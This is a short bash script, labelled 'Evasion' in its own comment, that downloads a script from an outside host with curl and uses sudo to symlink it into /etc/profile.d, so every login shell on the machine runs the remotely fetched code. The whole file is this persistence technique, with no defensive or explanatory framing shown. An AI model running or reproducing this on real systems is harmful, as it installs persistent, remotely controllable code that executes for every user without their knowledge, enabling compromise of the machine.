#!/bin/bash
# Evasion: a downloaded script linked into /etc/profile.d, which every login shell reads
set -u
curl -fsSo /opt/agent/env.sh https://agent.example.net/env.sh
sudo ln -s /opt/agent/env.sh /etc/profile.d/zz-agent.sh
